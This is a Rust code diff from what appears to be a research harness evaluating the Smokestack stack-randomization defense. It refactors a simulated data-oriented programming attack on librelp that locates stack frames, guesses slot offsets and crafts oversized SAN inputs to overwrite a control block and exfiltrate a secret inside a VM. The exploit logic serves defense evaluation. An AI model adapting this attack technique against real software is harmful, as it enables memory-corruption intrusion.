@@ -22,13 +22,9 @@
 //! frames' permutations; Smokestack on AES/RDRAND leaves the attacker a
 //! blind guess, which corrupts unintended slab bytes instead.
 
-use smokestack_core::HardenReport;
-use smokestack_defenses::DefenseKind;
-use smokestack_rand::Rng;
-use smokestack_srng::SchemeKind;
 use smokestack_vm::{FnInput, Memory};
 
-use crate::intel::{probe, read_pseudo_state, scan_stack, PseudoOracle};
+use crate::intel::{scan_stack, Knowledge};
 use crate::{conclude, Attack, AttackOutcome, Build, CommitFlag};
 
 /// The secret the attack exfiltrates.
@@ -102,86 +98,47 @@ pub const SOURCE: &str = r#"
 /// The librelp DOP attack.
 pub struct LibrelpAttack;
 
-/// Locate the per-invocation addresses of the callee's `allNames` and
-/// the caller's `ctl` block. Returns `(allNames, ctl)` or None if the
-/// needed knowledge is unavailable/unusable.
-struct FrameKnowledge {
+/// Where the first SAN must land: the live addresses of the callee's
+/// `allNames` and the caller's `ctl` block, plus the harmful intervals
+/// `[start, end)` the write must not touch.
+struct Targets {
     all_names: u64,
     ctl: u64,
-    /// Harmful intervals the write must not touch: `[start, end)`.
-    forbidden: Vec<(u64, u64)>,
+    forbidden: [(u64, u64); 2],
 }
 
-pub(crate) fn oracle_map(report: &HardenReport, func: &str, draw: u64) -> Vec<(String, i64)> {
-    let oracle = PseudoOracle::new(report);
-    let offs = oracle.offsets_for_draw(func, draw);
-    report.placements[func]
-        .slot_names
-        .iter()
-        .cloned()
-        .zip(offs.iter().map(|&o| o as i64))
-        .collect()
-}
-
-pub(crate) fn get(map: &[(String, i64)], name: &str) -> Option<i64> {
-    map.iter().find(|(n, _)| n == name).map(|(_, d)| *d)
-}
-
-impl LibrelpAttack {
-    fn knowledge(build: &Build, run_seed: u64, mem: &Memory) -> Option<FrameKnowledge> {
-        // Live anchors for both frames.
-        let caller_anchor = scan_stack(mem, TAG as u64, 2 << 20)?;
-        let callee_anchor = scan_stack(mem, (TAG + 1) as u64, 2 << 20)?;
-        match &build.deployment.smokestack {
-            Some(report) => {
-                let is_pseudo = build.defense == DefenseKind::Smokestack(SchemeKind::Pseudo);
-                let (callee_draw, caller_draw) = if is_pseudo {
-                    // Draw order at first input: main, caller, callee.
-                    let state = read_pseudo_state(mem);
-                    (
-                        PseudoOracle::draw_back(state, 0),
-                        PseudoOracle::draw_back(state, 1),
-                    )
-                } else {
-                    let mut rng = Rng::seed_from_u64(run_seed ^ 0x11b);
-                    (rng.next_u64(), rng.next_u64())
-                };
-                let callee = oracle_map(report, "relp_chk_peer_name", callee_draw);
-                let caller = oracle_map(report, "relp_lstn_init", caller_draw);
-                let callee_slab = callee_anchor as i64 - get(&callee, "tag")?;
-                let caller_slab = caller_anchor as i64 - get(&caller, "tag")?;
-                let all_names = (callee_slab + get(&callee, "allNames")?) as u64;
-                let ctl = (caller_slab + get(&caller, "ctl")?) as u64;
-                let tbl = (caller_slab + get(&caller, "tbl")?) as u64;
-                let out = (caller_slab + get(&caller, "out")?) as u64;
-                Some(FrameKnowledge {
-                    all_names,
-                    ctl,
-                    forbidden: vec![(tbl + 8, tbl + 24), (out, out + 33)],
-                })
-            }
-            None => {
-                // Static layout: probe a prior run of the same build.
-                let intel = probe(build, run_seed ^ 0x5151, vec![vec![]]);
-                let callee_tag = intel.addr_of("relp_chk_peer_name", "tag")?;
-                let caller_tag = intel.addr_of("relp_lstn_init", "tag")?;
-                let d_all =
-                    intel.addr_of("relp_chk_peer_name", "allNames")? as i64 - callee_tag as i64;
-                let d_ctl = intel.addr_of("relp_lstn_init", "ctl")? as i64 - caller_tag as i64;
-                let d_tbl = intel.addr_of("relp_lstn_init", "tbl")? as i64 - caller_tag as i64;
-                let d_out = intel.addr_of("relp_lstn_init", "out")? as i64 - caller_tag as i64;
-                let all_names = (callee_anchor as i64 + d_all) as u64;
-                let ctl = (caller_anchor as i64 + d_ctl) as u64;
-                let tbl = (caller_anchor as i64 + d_tbl) as u64;
-                let out = (caller_anchor as i64 + d_out) as u64;
-                Some(FrameKnowledge {
-                    all_names,
-                    ctl,
-                    forbidden: vec![(tbl + 8, tbl + 24), (out, out + 33)],
-                })
-            }
-        }
-    }
+/// Locate both live frames by their tags, then place their slots from
+/// what the attacker knows: under `pseudo` the two newest draws (callee,
+/// then caller), under a secure scheme two guessed rows (callee first),
+/// and for a static layout a probe of a prior run, made at this point of
+/// the live run. `None` when a frame or a slot stays unknown.
+fn targets(build: &Build, run_seed: u64, mem: &Memory) -> Option<Targets> {
+    let caller = scan_stack(mem, TAG as u64, 2 << 20)? as i64;
+    let callee = scan_stack(mem, (TAG + 1) as u64, 2 << 20)? as i64;
+    let mut knowledge = Knowledge::pbox(build, run_seed, 0x11b, true)
+        .unwrap_or_else(|| Knowledge::probed(build, run_seed ^ 0x5151, &[vec![]]));
+    let callee_d = knowledge.deltas(
+        Some(mem),
+        0,
+        ("relp_chk_peer_name", "tag"),
+        &[("relp_chk_peer_name", "allNames")],
+    )?;
+    let caller_d = knowledge.deltas(
+        Some(mem),
+        1,
+        ("relp_lstn_init", "tag"),
+        &[
+            ("relp_lstn_init", "ctl"),
+            ("relp_lstn_init", "tbl"),
+            ("relp_lstn_init", "out"),
+        ],
+    )?;
+    let [ctl, tbl, out] = [0, 1, 2].map(|i| (caller + caller_d[i]) as u64);
+    Some(Targets {
+        all_names: (callee + callee_d[0]) as u64,
+        ctl,
+        forbidden: [(tbl + 8, tbl + 24), (out, out + 33)],
+    })
 }
 
 impl Attack for LibrelpAttack {
@@ -194,23 +151,19 @@ impl Attack for LibrelpAttack {
     }
 
     fn attempt(&self, build: &Build, run_seed: u64) -> AttackOutcome {
-        let build_clone = build.clone();
-
         let aborted = CommitFlag::new();
         let committed = CommitFlag::new();
-        let aborted_c = aborted.clone();
-        let committed_c = committed.clone();
 
         let mut vm = build.vm(run_seed);
-        let adversary = FnInput(move |mem: &mut Memory, req, _max| {
-            if aborted_c.is_armed() {
+        let adversary = FnInput(|mem: &mut Memory, req, _max| {
+            if aborted.is_armed() {
                 return vec![];
             }
             match req {
                 0 => {
                     // First SAN: decide, then jump the cursor.
-                    let Some(k) = LibrelpAttack::knowledge(&build_clone, run_seed, mem) else {
-                        aborted_c.arm();
+                    let Some(k) = targets(build, run_seed, mem) else {
+                        aborted.arm();
                         return vec![];
                     };
                     // The targeted write spans [ctl-9, ctl+7): prefix
@@ -225,7 +178,7 @@ impl Attack for LibrelpAttack {
                     // One capped jump: increment = 11 + len, len <= 4095.
                     let len = dist - 11;
                     if harmful || !(1..=4095).contains(&len) {
-                        aborted_c.arm();
+                        aborted.arm();
                         return vec![];
                     }
                     // Oversized SAN: truncated inside allNames, but the
@@ -234,7 +187,7 @@ impl Attack for LibrelpAttack {
                 }
                 1 => {
                     // Second SAN lands at ctl: [nsock=2][op=1][dst=2][src=1].
-                    committed_c.arm();
+                    committed.arm();
                     vec![2, 1, 2, 1]
                 }
                 _ => vec![], // end SAN list; later sessions benign
@@ -256,6 +209,7 @@ impl Attack for LibrelpAttack {
 mod tests {
     use super::*;
     use crate::seeded_trial;
+    use smokestack_defenses::DefenseKind;
 
     #[test]
     fn benign_run_leaks_nothing() {
